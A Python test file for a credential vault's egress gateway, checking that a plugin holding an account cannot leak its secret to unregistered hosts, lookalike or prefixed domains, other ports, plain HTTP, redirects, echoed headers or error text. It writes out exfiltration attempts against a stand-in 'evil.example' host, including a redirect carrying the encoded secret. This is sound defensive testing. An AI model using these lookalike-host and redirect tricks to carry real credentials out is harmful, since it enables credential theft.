"""A gem that was given an account tries to get its secret out: each way is barred, and open without the barrier."""

import base64
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import idna
import pytest

from notochord.core.caller import Actor, Caller
from notochord.core.clock import SystemClock
from notochord.core.errors import NotochordError
from notochord.core.events import EventBus
from notochord.core.ids import IdMaker
from notochord.core.log import Redactor
from notochord.services.accounts.tokens import FreshAttachments
from notochord.services.egress.api import HostGrant, Leave
from notochord.services.egress.redaction import Redaction
from notochord.services.egress.service import EgressService
from notochord.services.vault import service as vault_service
from notochord.services.vault.api import Connection, ConnectionDraft, Placement, Registration, Secret
from notochord.services.vault.component import COMPONENT
from notochord.services.vault.service import StoredVault
from support.databases import database_in
from support.egress import PUBLIC, Answer, HandResolver, MemorySettings, RecordingSender, get

SECRET = "s3cret-canary/+0123456789"
GOOD, EVIL = "api.good.example", "evil.example"
LOOKS = idna.encode("\u0430pi.good.example").decode()
HOSTS = (GOOD, EVIL, f"{GOOD}.evil.example", LOOKS, f"{GOOD}:8443")


@dataclass
class Heist:
    """A gateway over a real vault with one account, and everything that was sent."""

    egress: EgressService
    sender: RecordingSender
    account: Connection

    async def fetch(self, url: str) -> str:
        """Return all that the gem learns."""
        leave = Leave(Caller(Actor.GEM, "thief"), grant=HostGrant(HOSTS), connection=self.account.id)
        try:
            response = await self.egress.fetch(get(url, leave))
        except NotochordError as error:
            return f"{error} {error.detail} {error.parameters}"
        return f"{response.url} {response.headers} {response.body!r} {response.credential_denied}"

    def sent_to_others(self) -> str:
        return str([(one.headers, one.target) for one in self.sender.sent if (one.host, one.port) != (GOOD, 443)])


@pytest.fixture(params=list(Placement))
async def heist(tmp_path: Path, request: pytest.FixtureRequest) -> AsyncIterator[Heist]:
    clock, sender = SystemClock(), RecordingSender()
    async with database_in(tmp_path, COMPONENT) as database:
        vault = StoredVault(database=database, clock=clock, ids=IdMaker(clock), redactor=Redactor(), events=EventBus())
        draft = ConnectionDraft("A", "service", request.param, Registration((GOOD,)), field="user1")
        account = await vault.add(draft, Secret(SECRET))
        names = {host.partition(":")[0]: [PUBLIC] for host in HOSTS}
        nothing: Any = None
        fresh = FreshAttachments(vault=vault, keeping=nothing, endpoint=nothing)
        egress = EgressService(
            settings=MemorySettings(), vault=fresh, resolver=HandResolver(names), sender=sender, environment={}
        )
        yield Heist(egress, sender, account)
        await egress.close()


def leaked(text: str) -> bool:
    forms = (SECRET, quote(SECRET, safe=""), base64.b64encode(SECRET.encode()).decode())
    basic = base64.b64encode(f"user1:{SECRET}".encode()).decode()
    return any(form in text for form in (*forms, basic))


WAYS = {
    "another host": f"https://{EVIL}/",
    "a host that begins so": f"https://{GOOD}.evil.example/",
    "a host that looks so": "https://\u0430pi.good.example/",
    "another port": f"https://{GOOD}:8443/",
    "without encryption": f"http://{GOOD}/",
}


@pytest.mark.req("CRED-014", "CRED-015")
@pytest.mark.parametrize("way", WAYS)
async def test_the_secret_does_not_go_where_it_is_not_registered(
    heist: Heist, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    learned = await heist.fetch(WAYS[way])
    assert not leaked(heist.sent_to_others() + learned)
    monkeypatch.setattr(vault_service, "denial", lambda _registration, _url: None)
    await heist.fetch(WAYS[way])
    assert leaked(heist.sent_to_others())


@pytest.mark.req("CRED-015")
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_carries_the_secret_nowhere_else(
    heist: Heist, status: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    location = (("Location", f"https://{EVIL}/?and={quote(SECRET, safe='')}"),)
    heist.sender.give(Answer(status, location), Answer(200))
    learned = await heist.fetch(f"https://{GOOD}/")
    assert len(heist.sender.sent) == 2
    assert not leaked(heist.sent_to_others() + learned)
    monkeypatch.setattr(vault_service, "denial", lambda _registration, _url: None)
    heist.sender.give(Answer(status, location), Answer(200))
    await heist.fetch(f"https://{GOOD}/")
    assert leaked(heist.sent_to_others())


@pytest.mark.req("CRED-008", "CRED-013")
@pytest.mark.parametrize("form", ["plain", "percent", "base64"])
async def test_a_service_that_echoes_the_secret_tells_the_gem_nothing(
    heist: Heist, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    forms = {"plain": SECRET, "percent": quote(SECRET, safe=""), "base64": base64.b64encode(SECRET.encode()).decode()}
    echo = Answer(200, (("X-Echo", forms[form]),), (forms[form][:7].encode(), forms[form][7:].encode()))
    heist.sender.give(echo)
    assert not leaked(await heist.fetch(f"https://{GOOD}/"))
    monkeypatch.setattr(Redaction, "text", lambda _self, text: text)
    heist.sender.give(echo)
    assert leaked(await heist.fetch(f"https://{GOOD}/"))


@pytest.mark.req("CRED-008")
async def test_an_error_on_the_way_quotes_no_secret(heist: Heist) -> None:
    heist.sender.give(Answer(302, (("Location", f"gopher://{SECRET}/"),)))
    assert not leaked(await heist.fetch(f"https://{GOOD}/"))
    heist.sender.give(Answer(302, (("Location", f"https://{SECRET}@/x"),)))
    assert not leaked(await heist.fetch(f"https://{GOOD}/"))
